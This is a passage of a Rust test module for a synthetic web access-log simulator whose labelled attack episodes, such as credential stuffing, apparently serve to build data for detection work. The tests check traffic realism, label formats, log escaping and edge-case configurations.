            actor: "browser".into(),
        };
        assert_eq!(
            label_json(1, &n),
            r#"{"line":1,"attack":null,"episode":null,"actor":"browser"}"#
        );
        assert!(parse_label(r#"{"attack":"nope","episode":null,"actor":"x"}"#).is_err());
        assert!(parse_label("not json").is_err());
        for k in AttackKind::all() {
            assert_eq!(
                serde_json::to_string(k).expect("serialises"),
                format!("\"{k}\"")
            );
        }
    }

    #[test]
    fn every_attack_kind_is_present_in_numbered_episodes() {
        let mut kinds: BTreeMap<AttackKind, usize> = BTreeMap::new();
        let mut episodes: BTreeMap<u32, HashSet<AttackKind>> = BTreeMap::new();
        for l in run() {
            if let Some(k) = l.label.attack {
                *kinds.entry(k).or_default() += 1;
                episodes
                    .entry(l.label.episode.expect("attack lines carry an episode"))
                    .or_default()
                    .insert(k);
            }
        }
        for k in AttackKind::all() {
            assert!(kinds.get(k).copied().unwrap_or(0) > 0, "no {k} lines");
        }
        assert_eq!(
            episodes.keys().copied().collect::<Vec<_>>(),
            (1..=AttackKind::all().len() as u32).collect::<Vec<_>>()
        );
        assert!(episodes.values().all(|k| k.len() == 1));
    }

    #[test]
    fn attacks_are_a_small_share() {
        let lines = run();
        let attacks = lines.iter().filter(|l| l.label.attack.is_some()).count();
        let share = attacks as f64 / lines.len() as f64;
        assert!(share > 0.002 && share < 0.05, "attack share {share}");
    }

    #[test]
    fn diurnal_curve_is_visible() {
        let mut per_hour = [0usize; 24];
        for l in run().iter().filter(|l| l.label.attack.is_none()) {
            per_hour[l.time.hour() as usize] += 1;
        }
        let night = per_hour[2..5].iter().sum::<usize>() as f64 / 3.0;
        let afternoon = per_hour[13..17].iter().sum::<usize>() as f64 / 4.0;
        assert!(
            night * 2.0 < afternoon,
            "night {night} vs afternoon {afternoon}: {per_hour:?}"
        );
    }

    #[test]
    fn weekends_differ_from_weekdays() {
        let clock = Clock::new(&SimConfig::default().start);
        let monday_9 = 9.0 * 3600.0;
        let saturday_9 = 5.0 * 86_400.0 + monday_9;
        assert!(!clock.weekend(monday_9) && clock.weekend(saturday_9));
        assert!(clock.human(saturday_9) != clock.human(monday_9));
        assert!(clock.office(saturday_9) < 0.1 && clock.office(monday_9 + 3600.0) > 0.9);
    }

    #[test]
    fn nat_addresses_carry_several_user_agents() {
        let mut uas: HashMap<&str, HashSet<&str>> = HashMap::new();
        for l in run()
            .iter()
            .filter(|l| l.label.actor == "browser" || l.label.actor == "customer")
        {
            let p = parse(&l.line).expect("parses");
            let ip = &l.line[..p.ip.len()];
            let ua = &l.line[l.line.len() - p.ua.len() - 1..l.line.len() - 1];
            uas.entry(ip).or_default().insert(ua);
        }
        let shared = uas.values().filter(|s| s.len() >= 2).count();
        let biggest = uas.values().map(HashSet::len).max().unwrap_or(0);
        assert!(shared >= 10, "{shared} addresses with several user-agents");
        // A corporate fleet sends a handful of identical builds, so distinct user-agents
        // undercount its users; five already means a shared address.
        assert!(biggest >= 5, "largest NAT has only {biggest} user-agents");
    }

    #[test]
    fn attackers_blend_in_by_address_and_user_agent() {
        let lines = run();
        let normal_ips: HashSet<String> = lines
            .iter()
            .filter(|l| l.label.attack.is_none() && l.label.actor != "attacker-warmup")
            .map(|l| parse(&l.line).expect("parses").ip)
            .collect();
        let normal_uas: HashSet<String> = lines
            .iter()
            .filter(|l| l.label.actor == "browser")
            .map(|l| parse(&l.line).expect("parses").ua)
            .collect();
        let mut shared_ip = HashSet::new();
        let mut browser_ua = HashSet::new();
        for l in lines.iter().filter(|l| l.label.attack.is_some()) {
            let p = parse(&l.line).expect("parses");
            if normal_ips.contains(&p.ip) {
                shared_ip.insert(l.label.episode);
            }
            if normal_uas.contains(&p.ua) {
                browser_ua.insert(l.label.episode);
            }
        }
        assert!(
            !shared_ip.is_empty(),
            "no episode shares an address with normal traffic"
        );
        assert!(
            browser_ua.len() >= 3,
            "only {} episodes use browser user-agents",
            browser_ua.len()
        );
        let stuffing_ips: HashSet<String> = lines
            .iter()
            .filter(|l| l.label.attack == Some(AttackKind::CredentialStuffing))
            .map(|l| parse(&l.line).expect("parses").ip)
            .collect();
        assert!(
            stuffing_ips.len() >= 10,
            "credential stuffing from {} addresses",
            stuffing_ips.len()
        );
    }

    #[test]
    fn normal_traffic_has_honest_errors_and_cached_assets() {
        let mut statuses: BTreeMap<u16, usize> = BTreeMap::new();
        let mut targets = HashSet::new();
        for l in run().iter().filter(|l| l.label.attack.is_none()) {
            let p = parse(&l.line).expect("parses");
            *statuses.entry(p.status).or_default() += 1;
            targets.insert(p.target.split('?').next().unwrap_or("").to_string());
        }
        for s in [200, 302, 304, 401, 404] {
            assert!(
                statuses.get(&s).copied().unwrap_or(0) > 0,
                "no normal {s}: {statuses:?}"
            );
        }
        for t in [
            "/",
            "/robots.txt",
            "/health",
            "/search",
            "/login",
            "/cart",
            "/checkout/payment",
            "/checkout/confirm",
            "/api/v1/cart",
            "/favicon.ico",
        ] {
            assert!(targets.contains(t), "no normal request for {t}");
        }
    }

    #[test]
    fn escaping_follows_nginx() {
        let mut s = String::new();
        escape_into(&mut s, "a\"b\\c\u{e9}\n");
        assert_eq!(s, "a\\x22b\\x5Cc\\xC3\\xA9\\x0A");
        assert_eq!(
            form_encode("o'neill & 6\" café"),
            "o%27neill+%26+6%22+caf%C3%A9"
        );
    }

    #[test]
    fn degenerate_configs_do_not_panic() {
        assert!(simulate(&SimConfig { days: 0.0, ..cfg() }).is_empty());
        assert!(simulate(&SimConfig {
            days: f64::NAN,
            ..cfg()
        })
        .is_empty());
        let quiet = simulate(&SimConfig {
            days: 0.05,
            scale: f64::NAN,
            episodes_per_type: 0,
            ..cfg()
        });
        assert!(quiet.iter().all(|l| l.label.attack.is_none()));
    }
}
